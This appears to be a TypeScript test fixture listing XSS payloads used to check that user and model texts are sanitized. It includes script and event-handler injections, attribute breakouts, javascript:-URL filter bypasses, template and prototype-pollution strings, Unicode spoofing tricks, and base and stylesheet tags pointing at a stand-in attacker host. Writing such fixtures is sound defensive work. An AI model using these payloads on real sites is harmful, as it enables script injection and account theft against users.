/**
 * XSS payloads for user and model texts. Each one calls `xss()` when executed; injected elements have the class `xss`.
 * All fit into a name.
 */
export const payloads: readonly string[] = [
  // Elements that execute at once.
  '<script class=xss>xss()</script>',
  '</script><script class=xss>xss()</script>',
  '<ScRiPt class=xss>xss()</sCrIpT >',
  '<img class=xss src=x onerror=xss()>',
  '<img class=xss src="x`" `onerror=`xss()`>',
  '<svg class=xss onload=xss()>',
  '<svg class=xss><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg class=xss><a xlink:href=javascript:xss()><text>x</text></a></svg>',
  '<math class=xss><mtext><img class=xss src onerror=xss()></mtext></math>',
  '<iframe class=xss srcdoc="<script>parent.xss()</script>"></iframe>',
  '<iframe class=xss src=javascript:parent.xss()></iframe>',
  '<details class=xss open ontoggle=xss()>',
  '<video class=xss><source onerror=xss()></video>',
  '<body class=xss onpageshow=xss()>',
  '<input class=xss autofocus onfocus=xss()>',
  '<object class=xss data="data:text/html,<script>parent.xss()</script>"></object>',
  '<meta class=xss http-equiv=refresh content="0;url=javascript:xss()">',
  '<base class=xss href=//evil.example/>',
  '<link class=xss rel=stylesheet href=//evil.example/x.css>',
  '<form class=xss action=javascript:xss()><button>ok</button></form>',
  // Break out of an attribute, a comment, a text element, nested quotes.
  '"><img class=xss src=x onerror=xss()>',
  "'><img class=xss src=x onerror=xss()>",
  '" autofocus onfocus="xss()" class="xss',
  "' onmouseover='xss()' class='xss",
  '--><svg class=xss onload=xss()>',
  '</textarea></title></style><img class=xss src=x onerror=xss()>',
  // URLs that bypass prefix checks.
  'javascript:xss()',
  'JaVa\tscr\nipt:xss()',
  '\u0001javascript:xss()//https://example.org',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=',
  'vbscript:msgbox(1)',
  '&#106;avascript&colon;xss()',
  '[klick](javascript:xss()) <a class=xss href="javascript:xss()">klick</a>',
  '//evil.example/%2e%2e',
  // Entities, templates, styles, JSON.
  '&lt;img class=xss src=x onerror=xss()&gt;',
  '{{constructor.constructor("xss()")()}} ${xss()} <%= xss() %> #{xss()}',
  'x;}*{background:url(javascript:xss())}</style><style class=xss>*{display:none}',
  '"},{"__proto__":{"polluted":true},"a":"\\u003cscript>xss()\\u003c/script>',
  // Property names of objects.
  '__proto__',
  'constructor',
  'hasOwnProperty',
  // Misleading text: right-to-left override, zero-width characters, stacked combining marks.
  '\u202Egnp.exe\u202C <b class=xss>Oma</b>',
  'O\u200Bm\u200Da\uFEFF<i class=xss>Ilse</i>',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349<u class=xss>x</u>',
];

/** For fields longer than a name. */
export const longPayload = `${'<b class=xss>'.repeat(150)}<img class=xss src=x onerror=xss()>${'\u202E'.repeat(50)}`;

/** URLs accepted by the database, with a payload after the host. */
export const webLinks: readonly string[] = [
  'https://example.org/"onmouseover="xss()"class="xss',
  "https://example.org/'><img/class=xss/src=x/onerror=xss()>",
  'https://example.org/#javascript:xss()',
  'https://example.org/?next=data:text/html,<script>xss()</script>',
];
